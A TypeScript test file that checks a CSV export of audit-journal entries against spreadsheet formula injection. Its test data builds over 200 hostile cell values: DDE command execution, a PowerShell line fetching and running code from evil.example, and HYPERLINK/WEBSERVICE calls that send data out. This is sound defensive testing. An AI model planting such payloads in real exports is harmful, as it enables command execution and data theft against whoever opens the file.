import * as v from 'valibot';
import { expect, test } from 'vitest';
import { type ReadEntry, ReadEntrySchema } from '../../shared/journal/reading/ReadEntry.ts';
import { csvHead, csvRow } from './csvRow.ts';

/** Commands, links and exchanges that have run in somebody's spreadsheet, in every disguise we know. */
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"open")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(A1:A9)*2',
  '@SUM(1)',
  "2+5+cmd|' /C powershell IEX(wget evil.example)'!A0",
  '";=1+1;"',
];
const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200b=',
  '\ufeff=',
  '\u00a0+',
  ' \t @',
  '\u202e=',
  '=\t',
  '--',
  '\u2060-',
];
const hostile = signs.flatMap((sign) => bodies.map((body) => `${sign}${body}`));

const entry = (value: string): ReadEntry =>
  v.parse(ReadEntrySchema, {
    v: 2,
    epoch: '01JE',
    n: 7,
    at: '2026-11-22T10:00:00.000Z',
    actor: { kind: 'PERSON', id: value, role: value, unit: value },
    session: value,
    device: value,
    op: 'CONSULT',
    operation: 'Query.incident',
    type: 'consultation.answered',
    id: value,
    object: value,
    purpose: 'OVERSIGHT',
    legalBasis: 'LPD_56',
    reason: { code: 'OTHER', linkType: 'FILE', linkId: value },
    subjects: [],
    decision: { effect: 'allow', policies: [value] },
    payload: value,
    prevHash: '0',
    hash: '1',
  });

/** RFC 4180, as a spreadsheet reads it. */
const cellsOf = (text: string): readonly string[] => {
  const cells: string[] = [];
  for (const [, quoted, plain] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(?:,|\r\n)/g)) {
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
  }
  return cells;
};

/** What a spreadsheet that skips blanks and unseen marks would run. */
const runs = (cell: string): boolean => /^[=+\-@＝＋－＠]/u.test(cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, ''));

test('no text a person could have typed is a formula in the table, and none is lost', () => {
  const width = cellsOf(csvHead).length;
  let cells = 0;
  for (const value of hostile) {
    const row = cellsOf(csvRow(entry(value)));
    expect(row).toHaveLength(width);
    expect(row.filter(runs)).toEqual([]);
    // Still there, behind the apostrophe that keeps it from being run.
    expect(row.filter((cell) => cell.endsWith(value)).length).toBeGreaterThanOrEqual(9);
    cells += row.length;
  }
  expect(hostile.length).toBeGreaterThanOrEqual(200);
  console.log(`csv: ${hostile.length} hostile values in ${cells} cells, 0 formulas`);
});

test('the same values, written as they are, would run (the seeded fault)', () => {
  const plain = hostile.map((value) => cellsOf(`"${value.replaceAll('"', '""')}"\r\n`)[0] ?? '');

  expect(plain.filter(runs)).toHaveLength(hostile.length);
});
